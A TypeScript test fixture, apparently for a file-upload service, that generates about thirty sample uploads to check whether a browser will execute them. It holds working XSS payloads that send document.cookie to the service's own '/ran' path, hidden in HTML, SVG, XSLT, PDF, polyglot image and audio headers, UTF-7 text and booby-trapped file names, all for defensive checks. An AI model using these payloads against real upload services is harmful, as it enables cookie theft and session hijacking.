/** A document that requests an address below `/ran` and sets its title to `ran` if a browser runs it. */
export interface RawDocument {
  readonly name: string
  readonly content: string
  /** The content type that the client claims when it uploads the document. */
  readonly type: string
  /** Whether a browser runs it if it opens it with this type. */
  readonly runs: boolean
}

const HTML = 'text/html'

/** @param origin of the service, to which the scripts report */
export function rawDocuments(origin: string): RawDocument[] {
  const code = `document.title='ran';fetch('${origin}/ran/'+encodeURIComponent(document.cookie));parent.postMessage('ran','*')`
  const script = `<script>${code}</script>`
  const html = `<!doctype html><html><title>page</title><body onload="${code}">${script}<img src=x onerror="${code}"></html>`
  const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><script>${code}</script></head></html>`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"><script>${code}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${xhtml.slice(21)}</body></foreignObject></svg>`
  const styled = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${code}</script></html></xsl:template></xsl:stylesheet>`
  const xml = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xsl,${encodeURIComponent(styled)}"?><root><script xmlns="http://www.w3.org/1999/xhtml">${code}</script></root>`
  const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);${script})>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
  const worker = `self.onconnect=0;fetch('${origin}/ran/worker');self.addEventListener?.('fetch',()=>{});`
  const one = (name: string, content: string, type: string, runs = false): RawDocument => ({
    name,
    content,
    type,
    runs,
  })
  return [
    one('page.html', html, HTML, true),
    one('page.xhtml', xhtml, 'application/xhtml+xml', true),
    one('picture.svg', svg, 'image/svg+xml', true),
    one('feed.xml', xml, 'text/xml', true),
    one('style.xsl', styled, 'text/xsl'),
    one('news.rss', xml, 'application/rss+xml'),
    one('code.js', code, 'text/javascript'),
    one('module.mjs', `${code};export {}`, 'text/javascript'),
    one('worker.js', worker, 'text/javascript'),
    one('theme.css', `@import '${origin}/ran/import';:root{background:url(${origin}/ran/style)}`, 'text/css'),
    one('paper.pdf', pdf, 'application/pdf'),
    // Documents that are two things at once.
    one('picture.gif', `GIF89a=0;${code};/*${script}*/`, 'image/gif'),
    one('picture.png', `\x89PNG\r\n${html}`, 'image/png'),
    one('picture.bmp', `BM=0;${code};//${script}`, 'text/javascript'),
    one('clip.mp4', html, 'video/mp4'),
    one('sound.wav', `RIFF=1;${code};/*WAVE${script}*/`, 'audio/wav'),
    one('icon.ico', html, HTML, true),
    one(
      'pages.mhtml',
      `MIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n\n--a\nContent-Type: text/html\n\n${html}\n--a--`,
      'multipart/related',
    ),
    one('app.webmanifest', '{"start_url":"javascript:alert(1)"}', 'application/manifest+json'),
    // Texts that a browser may read in another character set.
    one('utf-7.html', `+ADw-script+AD4-${code}+ADw-/script+AD4-`, 'text/html; charset=utf-7'),
    one('iso-2022.txt', `\x1b$B<\x1b(B${script}`, 'text/html; charset=iso-2022-jp'),
    one('no-extension', html, HTML, true),
    // Names that could end the header with the name, or look like another type.
    one('a"; filename=".html', html, HTML, true),
    one('page.html;.txt', html, HTML, true),
    one('page.txt%00.html', html, 'application/octet-stream'),
    one("x'\u202e.lmth.html", html, HTML, true),
    one('страница.html', html, HTML, true),
    one('page.html ', html, 'text/html\t', true),
    one('-.hta', html, 'application/hta'),
    one('.htaccess', 'AddType text/html .txt', 'text/plain'),
  ]
}
